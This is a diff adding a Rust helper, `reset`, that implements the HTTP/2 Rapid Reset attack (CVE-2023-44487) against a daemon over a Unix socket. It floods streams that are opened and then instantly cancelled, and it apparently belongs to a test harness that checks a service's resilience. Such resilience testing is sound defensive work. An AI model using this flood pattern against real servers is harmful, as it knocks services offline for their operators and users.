@@ -80,6 +80,28 @@ pub fn ask(
     send(connection, &bytes)
 }
 
+/// Asks `path` so often on `connection` and takes each call back at once (CVE-2023-44487); as with
+/// [`ask`], what the daemon does not read is not sent.
+pub fn reset(
+    connection: &mut UnixStream,
+    path: &str,
+    message: &[u8],
+    calls: u32,
+) -> io::Result<()> {
+    const CANCEL: u32 = 8;
+    let mut bytes = opening(HUGE);
+    let mut body = vec![0];
+    body.extend((message.len() as u32).to_be_bytes());
+    body.extend_from_slice(message);
+    for call in 0..calls {
+        let stream = 2 * call + 1;
+        bytes.extend(frame(1, 4, stream, &fields(path))); // END_HEADERS
+        bytes.extend(frame(0, 1, stream, &body)); // END_STREAM
+        bytes.extend(frame(3, 0, stream, &CANCEL.to_be_bytes())); // RST_STREAM
+    }
+    send(connection, &bytes)
+}
+
 /// Begins so many calls of `path` that announce `claimed` bytes, sends `sent` of each and no end.
 pub fn half_ask(
     connection: &mut UnixStream,
